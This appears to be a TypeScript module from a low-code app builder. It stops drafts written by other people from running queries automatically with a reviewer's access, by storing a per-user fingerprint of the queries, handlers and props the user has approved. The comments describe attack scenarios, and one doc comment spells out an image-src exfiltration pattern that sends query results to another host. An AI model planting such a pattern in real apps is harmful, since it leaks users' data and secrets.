// Whether the builder may run a draft's queries by itself. The preview runs queries as the
// person who has the builder open: their datasources, their `{{ user.* }}`, and an admin's
// access to `{{ secrets.* }}`. A draft someone else wrote must not do that the moment an
// admin opens it to review it (a run-on-load query that copies a secret into a table, or an
// onSuccess handler that sends the admin to a look-alike sign-in page). So the builder runs
// queries on its own only for what this user saved or agreed to run in this browser; for
// anything else it waits for a click. The record is per user and app, and names exactly the
// queries and event handlers agreed to: a change by someone else asks again.
import type { Component } from "../api/app-definition.gen";
import type { Definition } from "./edit";

const PREFIX = "lathe.trusted-draft";
// A record too large for the browser's storage is not kept: the builder asks again next time.
const MAX_RECORD = 256 * 1024;

/**
 * What decides what a draft does by itself with its user's access: the whole definition but
 * the layout. Queries and handlers decide what runs; props decide where results go and what
 * inputs hold (an image whose `src` is `https://elsewhere/?d={{ queries.q.data }}` sends a
 * reviewer's results away, a text input's plain default value is what a query sends), and
 * so do a component's type and the variables. Moving or resizing a component doesn't ask
 * again; any other change by someone else does.
 */
export function runFingerprint(definition: Definition): string {
  const withoutLayout = (components: readonly Component[]): unknown[] =>
    components.map(({ layout: _layout, children, ...rest }) => ({ ...rest, children: withoutLayout(children ?? []) }));
  return canonical({
    queries: definition.queries ?? [],
    variables: definition.variables ?? {},
    pages: definition.pages.map((page) => ({ id: page.id, components: withoutLayout(page.components) })),
  });
}

/** A draft with nothing of anyone's in it: no queries, no variables, no components. */
export function isBlank(definition: Definition): boolean {
  return !definition.queries?.length && Object.keys(definition.variables ?? {}).length === 0 && definition.pages.every((page) => page.components.length === 0);
}

/** JSON with object keys sorted, so a store that reorders keys doesn't change the text. */
export function canonical(value: unknown): string {
  if (Array.isArray(value)) return `[${value.map(canonical).join(",")}]`;
  if (value !== null && typeof value === "object") {
    const entries = Object.entries(value as Record<string, unknown>)
      .filter(([, v]) => v !== undefined)
      .sort(([a], [b]) => (a < b ? -1 : a > b ? 1 : 0));
    return `{${entries.map(([k, v]) => `${JSON.stringify(k)}:${canonical(v)}`).join(",")}}`;
  }
  return JSON.stringify(value) ?? "null";
}

type Storage = Pick<globalThis.Storage, "getItem" | "setItem">;

const key = (userId: string, appId: string) => `${PREFIX}.${userId}.${appId}`;

/** Whether `userId` saved or agreed to run exactly this draft's queries and handlers. */
export function isTrusted(storage: Storage | null, userId: string, appId: string, definition: Definition): boolean {
  try {
    return storage?.getItem(key(userId, appId)) === runFingerprint(definition);
  } catch {
    return false;
  }
}

/** Records that `userId` saved, or agreed to run, this draft. */
export function trust(storage: Storage | null, userId: string, appId: string, definition: Definition): void {
  const fingerprint = runFingerprint(definition);
  if (fingerprint.length > MAX_RECORD) return;
  try {
    storage?.setItem(key(userId, appId), fingerprint);
  } catch {
    // Storage full or disabled: the builder asks again next time, which is the safe side.
  }
}

/** The browser's storage, or null where it is unavailable (private modes, tests). */
export function browserStorage(): Storage | null {
  try {
    return typeof window === "undefined" ? null : window.localStorage;
  } catch {
    return null;
  }
}
